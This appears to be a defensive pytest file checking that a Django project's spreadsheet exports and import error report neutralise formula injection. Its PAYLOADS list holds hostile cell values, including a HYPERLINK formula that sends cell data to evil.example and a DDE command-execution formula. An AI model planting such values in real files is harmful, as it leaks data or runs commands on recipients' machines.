"""Attack: spreadsheet formula injection (issue 19). A name typed as `=HYPERLINK(…)` must come out of
every export and the import error report as inert text; and no module may write a workbook or a CSV
without the one helper (core/exports.py)."""

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fengqiao.accounts.choices import Role
from fengqiao.core.exports import safe_cell, workbook
from tests.factories import AddressFactory, OrganisationFactory, PersonFactory, UserFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "@SUM(1)",
    "+1",
    "-1+1",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "fengqiao"


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_text_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3, None, True, "张三", "13812345678", "a=b", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def _cells(content: bytes) -> list:
    """Every cell's stored value and type, across every sheet."""
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row]


def _assert_inert(content: bytes, payloads=PAYLOADS):
    cells = _cells(content)
    assert all(t != "f" for _v, t in cells), "a cell was written as a formula"
    values = [v for v, _t in cells if isinstance(v, str)]
    for text in payloads:
        assert "'" + text in values, text
        assert text not in values, text


def test_the_helper_workbook_neutralises_every_sheet():
    for write_only in (False, True):
        book = workbook(write_only=write_only)
        sheets = [book.create_sheet("二")] + ([] if write_only else [book.active])
        for sheet in sheets:
            sheet.append(["=1+1", -1, 2.5])
        out = io.BytesIO()
        book.save(out)
        cells = _cells(out.getvalue())
        assert ("'=1+1", "s") in cells and (-1, "n") in cells and (2.5, "n") in cells


@pytest.mark.django_db
def test_person_and_organisation_exports_are_inert(alice_client, community_a):
    for text in PAYLOADS:
        PersonFactory(community=community_a, name=text, phone="13812345678")
        OrganisationFactory(address=AddressFactory(community=community_a), name=text)
    for kind in ("persons", "organisation"):
        response = alice_client.get(f"/exchange/export/{kind}/")
        assert response.status_code == 200
        _assert_inert(b"".join(response.streaming_content))


@pytest.mark.django_db
def test_incident_export_is_inert(alice_client, station, community_a):
    from django.urls import reverse

    from fengqiao.incidents.models import IncidentCategory
    from fengqiao.incidents.services import incident_receive

    duty = UserFactory(username="duty_x", role=Role.DUTY_OFFICER, station=station)
    for text in PAYLOADS:
        incident_receive(
            actor=duty,
            station=station,
            category=IncidentCategory.objects.filter(active=True).first(),
            caller_name="张三",
            caller_phone="13812345678",
            location=text,
            community=community_a,
            narrative="测试",
        )
    response = alice_client.get(reverse("incidents:incident_list"), {"export": "xlsx"})
    # The intake strips surrounding blanks: "\t=1" is stored as "=1", itself in the list.
    _assert_inert(b"".join(response.streaming_content), [p for p in PAYLOADS if not p[0].isspace()])


def test_the_import_error_report_is_inert():
    from types import SimpleNamespace

    from fengqiao.exchange.exports import errors_workbook

    job = SimpleNamespace(
        errors=[{"row": i + 2, "column": "姓名", "value": t, "problem": "无效"} for i, t in
                enumerate(PAYLOADS)]
    )  # fmt: skip
    _assert_inert(errors_workbook(job).read())


def test_the_case_summary_and_report_workbooks_are_inert():
    from fengqiao.cases.documents import TOTALS, summary_xlsx
    from fengqiao.reports.documents import report_xlsx, sample_data

    data = sample_data()
    data["title"] = PAYLOADS[0]
    data["figures"] = [dict(data["figures"][0], name=PAYLOADS[1], value=-1)]
    data["units"] = data["officers"] = [dict(data["units"][0], name=PAYLOADS[2], total=-3)]
    _assert_inert(report_xlsx(data), PAYLOADS[:3])
    summary = {
        "week_start": "2026-11-16",
        "week_end": "2026-11-22",
        "station": PAYLOADS[0],
        "totals": {key: 0 for key, _label in TOTALS},
        "by_unit": [],
        "by_officer": [{"officer": PAYLOADS[1]}],
        "problems": [{"reason": PAYLOADS[2]}],
    }
    cells = _cells(summary_xlsx(summary))
    assert all(t != "f" for _v, t in cells)
    assert "'" + PAYLOADS[1] in [v for v, _t in cells]


WRITERS = re.compile(
    r"from openpyxl import[^\n]*\bWorkbook\b|openpyxl\.Workbook\b|xlsxwriter|csv\.(writer|DictWriter)\b"
)


def test_no_module_writes_a_spreadsheet_without_the_helper():
    """A new export that creates its own openpyxl Workbook or CSV writer fails here: use
    fengqiao.core.exports.workbook() (or safe_row for a CSV)."""
    offenders = [
        f"{path.relative_to(SRC)}:{text[: m.start()].count(chr(10)) + 1}"
        for path in SRC.rglob("*.py")
        if path != SRC / "core" / "exports.py"
        for text in [path.read_text(encoding="utf-8")]
        for m in WRITERS.finditer(text)
    ]
    assert offenders == []


def test_helper_users_write_cells_only_by_append():
    """`sheet.cell(value=…)` and `sheet["A1"] = …` would skip the neutralising `append`."""
    bypass = re.compile(r"\.cell\([^)]*value\s*=|\]\s*=\s*[^=]|\.value\s*=[^=]")
    offenders = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "fengqiao.core.exports import workbook" not in text:
            continue
        for line_no, line in enumerate(text.splitlines(), start=1):
            if bypass.search(line) and ("sheet" in line or "cell" in line):
                offenders.append(f"{path.relative_to(SRC)}:{line_no}: {line.strip()}")
    assert offenders == []
